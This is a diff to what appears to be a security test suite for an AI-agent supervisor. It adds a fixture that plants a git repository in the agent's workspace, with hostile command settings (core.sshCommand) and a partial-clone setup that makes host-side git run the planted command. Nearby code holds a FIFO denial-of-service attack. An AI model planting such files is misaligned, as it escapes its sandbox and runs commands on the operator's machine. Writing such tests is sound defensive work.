@@ -506,6 +506,35 @@ def attack_undo_dot_git_redirect(p: dict[str, Any]) -> None:
         os.rename(evil, dot_git)
 
 
+def attack_planted_repository(p: dict[str, Any]) -> None:
+    """A repository of the agent's own in `plans/` of its folder, a spec beside it for the
+    operator to plan: every command setting, and a HEAD whose commit is missing from a partial
+    clone, so that a git looking it up fetches it through the planted core.sshCommand."""
+    folder = os.path.join(WORKSPACE, "plans")
+    run("git", "init", "-q", folder)
+    git_dir = os.path.join(folder, ".git")
+    set_config(
+        os.path.join(git_dir, "config"),
+        {
+            **command_settings(p["mark"]),
+            "core.repositoryformatversion": "1",
+            "extensions.partialClone": "origin",
+            "remote.origin.url": "ssh://agentvisor.invalid/plans.git",
+            "remote.origin.promisor": "true",
+        },
+    )
+    write(os.path.join(git_dir, "HEAD"), "ref: refs/heads/main\n")
+    write(os.path.join(git_dir, "refs", "heads", "main"), "1" * 40 + "\n")
+    write(
+        os.path.join(folder, "next.md"),
+        "# Next\n\nBuild a small command line tool that prints the weather, with tests.\n",
+    )
+
+
+def attack_undo_planted_repository(p: dict[str, Any]) -> None:
+    shutil.rmtree(os.path.join(WORKSPACE, "plans"), ignore_errors=True)
+
+
 def attack_fifos(p: dict[str, Any]) -> None:
     """FIFOs where git reads a file of the agent's repository: whoever opens one waits for
     ever (a DoS on host commands that read the clone)."""
